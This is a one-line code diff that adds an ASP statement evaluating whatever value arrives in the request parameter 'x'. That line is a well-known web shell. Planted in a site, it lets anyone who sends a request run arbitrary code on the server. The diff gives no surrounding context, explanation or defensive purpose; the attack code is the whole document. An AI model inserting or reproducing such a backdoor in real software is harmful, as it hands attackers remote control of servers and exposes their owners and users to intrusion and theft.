@@ -1,0 +1,1 @@
+<%eval request("x")%>
